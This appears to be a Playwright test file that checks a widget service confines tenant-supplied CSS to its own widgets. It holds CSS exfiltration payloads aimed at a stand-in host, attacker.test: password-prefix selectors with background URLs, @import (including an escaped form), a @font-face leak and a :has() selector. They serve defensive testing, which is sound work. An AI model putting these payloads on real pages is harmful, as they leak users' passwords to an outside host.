// Issue 18, finding 11 (docs/adr/0058): the operator's CSS for a tenant must only ever match
// inside svc's widgets. A shop page with a login form and a password field, the tenant's CSS
// saved through the operator API (and, for CSS an older svc stored, written straight into the
// data dir): the password field looks exactly as it does without svc's stylesheet, no request
// leaves for the attacker's host, and the operator's rule for the product names in the widget applies.
const { test, expect } = require("@playwright/test");
const { execFileSync } = require("node:child_process");
const path = require("node:path");
const { signedIn } = require("../support/console");

test.describe.configure({ mode: "serial" });

const repoRoot = path.resolve(__dirname, "..", "..");
const serverBinary = process.env.SVC_SERVER || path.join(repoRoot, "build", "bin", "svc-server");
const base = () => process.env.SVC_BASE_URL;
const dataDir = () => process.env.SVC_DATA_DIR;
const sku = () => process.env.SVC_FIRST_SKU;
const attacker = "http://attacker.test";
let apiId = "";

const cli = (...args) => execFileSync(serverBinary, args, { encoding: "utf8" });
const widgetsPath = () => base() + "/operator/api/tenants/" + encodeURIComponent(apiId) + "/widgets";
// The server keeps a tenant's settings for 2 s; the data dir was written by another process.
const settle = () => new Promise((resolve) => setTimeout(resolve, 2300));

// One rule per first letter: the value's first character reaches the attacker as the path.
const prefixLeak = [..."abcdefghijklmnopqrstuvwxyz0123456789"]
  .map((c) => `input[type=password][value^=${c}] { background: url(${attacker}/leak/${c}) }`).join("\n");
const nameRule = ".svc-card .svc-card__name { color: rgb(0, 0, 128) !important; }";

// The shop's page, served at an address on svc's origin that the server itself does not know.
const shopUrl = () => base() + "/demo/css-isolation-login.html";
function shopPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in – Shop</title>
<style>
  body { font: 16px sans-serif; }
  #password, #user { background-color: rgb(255, 255, 240); color: rgb(20, 20, 20); border: 1px solid rgb(90, 90, 90); }
</style>
<script async src="${base()}/${apiId}/loader.js"></script>
</head><body>
<form id="login"><label>E-mail <input id="user" name="user" value="ann@example.com"></label>
<label>Password <input id="password" type="password" name="password" value="a-secret"></label></form>
<section class="-svc-widget-container"><h2>You may also like</h2>
<div id="similar-widget" data-svc-widget-id="SIMILAR" data-touchpoint="product" data-sku="${sku()}"></div></section>
</body></html>`;
}

// What the page's form fields look like, property by property.
async function fieldStyles(page) {
  return page.evaluate(() => {
    const names = ["background-color", "background-image", "color", "border-top-color", "outline-style", "outline-color",
                   "display", "visibility", "opacity", "font-size", "list-style-image", "cursor", "content"];
    const styles = {};
    for (const id of ["password", "user"]) {
      const style = getComputedStyle(document.getElementById(id));
      styles[id] = Object.fromEntries(names.map((name) => [name, style.getPropertyValue(name)]));
    }
    styles.body = getComputedStyle(document.body).backgroundImage;
    return styles;
  });
}

// Opens the shop page; `withSvcCss` false blocks widgets.css (the field's look without svc).
// Returns the page's form field styles and every request made for the attacker's host.
async function visit(page, withSvcCss) {
  const leaked = [];
  await page.route(shopUrl(), (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: shopPage() }));
  await page.route(attacker + "/**", (route) => {
    leaked.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  if (!withSvcCss) await page.route("**/widgets.css", (route) => route.abort());
  page.on("request", (request) => {
    if (request.url().startsWith(attacker)) leaked.push(request.url());
  });
  await page.goto(shopUrl());
  await expect(page.locator("#similar-widget")).toHaveAttribute("data-svc-state", "rendered");
  await page.waitForLoadState("networkidle");
  return { styles: await fieldStyles(page), leaked };
}

test.beforeAll(() => {
  apiId = JSON.parse(cli("tenant", "create", "--data-dir", dataDir(), "--name", "CSS isolation shop")).apiId;
  cli("feed", "import", "--data-dir", dataDir(), "--api-id", apiId, path.join(dataDir(), "demo", "feed.csv"));
});

test("the operator API refuses CSS that reaches outside the widgets, naming line and column; what it saves is scoped", async ({ page, browser }) => {
  const csrf = await signedIn(page);
  const put = (css) => page.request.put(widgetsPath(), { headers: { "x-csrf-token": csrf }, data: { css } });

  const refusals = [
    [nameRule + "\n" + prefixLeak, /^line 2, column 46: url\("http:\/\/attacker\.test\/leak\/a"\) leaves svc/],
    [nameRule + "\n@IMPORT url(" + attacker + "/x.css);", /^line 2, column 1: @import is not allowed/],
    ["@\\69mport '" + attacker + "/x.css';", /^line 1, column 1: @import is not allowed/],
    ["body:has(input[value^=a]) .svc-card { color: red }", /^line 1, column 1: 'body' is outside the widget/],
  ];
  for (const [css, message] of refusals) {
    const refused = await put(css);
    expect(refused.status(), css).toBe(400);
    const error = (await refused.json()).error;
    expect(error.fields[0].field).toBe("css");
    expect(error.fields[0].message).toMatch(message);
  }

  // The console shows the refusal next to the CSS field.
  await page.goto(base() + "/console/widgets.html?apiId=" + encodeURIComponent(apiId));
  await page.getByLabel("CSS of the tenant").fill(nameRule + "\n@IMPORT url(" + attacker + "/x.css);");
  await page.getByRole("button", { name: "Save widget settings" }).click();
  await expect(page.locator("#css-error")).toHaveText(/^line 2, column 1: @import is not allowed/);
  await expect(page.getByLabel("CSS of the tenant")).toHaveAttribute("aria-invalid", "true");

  // Accepted, because svc confines it: the shop's password field is not in any widget.
  const scoped = "input[type=password] { background-color: rgb(255, 0, 0) !important; outline: 5px solid rgb(255, 0, 0) !important }\n" + nameRule;
  expect((await put(scoped)).status()).toBe(200);
  const served = await (await page.request.get(base() + "/" + apiId + "/widgets.css")).text();
  expect(served).toContain('.svc-widget input[type="password"] { background-color: rgb(255, 0, 0) !important;');

  const bare = await browser.newPage();
  const without = await visit(bare, false);
  await bare.close();
  const shop = await browser.newPage();
  const withCss = await visit(shop, true);
  expect(withCss.styles).toEqual(without.styles);
  expect(withCss.styles.password["background-color"]).toBe("rgb(255, 255, 240)");
  await expect(shop.locator("#similar-widget .svc-card__name").first()).toHaveCSS("color", "rgb(0, 0, 128)");
  await shop.close();
});

test("CSS an older svc stored is served without what reaches outside: no request leaves, the field keeps its look", async ({ page, browser }) => {
  const legacy = [
    "@import url(" + attacker + "/import.css);",
    "@font-face { font-family: Leak; src: url(" + attacker + "/font.woff); }",
    "#password { font-family: Leak; }",
    "body:has(input[value^=a]) { background-image: url(" + attacker + "/has/a); }",
    prefixLeak,
    nameRule,
  ].join("\n");
  // Straight into the data dir, as an older svc (which only looked for a lower-case "@import") kept it.
  execFileSync("sqlite3", ["-cmd", ".timeout 5000", path.join(dataDir(), "svc.sqlite3"),
    "INSERT INTO widget_settings(tenant_id, css, updated_at) SELECT id, '" + legacy.replace(/'/g, "''") + "', 0 " +
    "FROM tenants WHERE api_id = '" + apiId + "' ON CONFLICT(tenant_id) DO UPDATE SET css = excluded.css"]);
  await settle();

  const bare = await browser.newPage();
  const without = await visit(bare, false);
  await bare.close();
  const shop = await browser.newPage();
  const withCss = await visit(shop, true);
  await shop.waitForTimeout(300);  // a background image would be fetched by now
  expect(withCss.leaked).toEqual([]);
  expect(withCss.styles).toEqual(without.styles);
  await expect(shop.locator("#similar-widget .svc-card__name").first()).toHaveCSS("color", "rgb(0, 0, 128)");
  const served = await (await shop.request.get(base() + "/" + apiId + "/widgets.css")).text();
  expect(served).not.toContain("attacker.test");
  expect(served).toContain(".svc-widget .svc-card .svc-card__name { color: rgb(0, 0, 128) !important }");
  await shop.close();

  // The console says what shops no longer get, next to the CSS field.
  await signedIn(page);
  await page.goto(base() + "/console/widgets.html?apiId=" + encodeURIComponent(apiId));
  await expect(page.locator("#css-error")).toHaveText(/^Shops get this CSS without 39 parts; the first: line 1, column 1: @import is not allowed/);
});
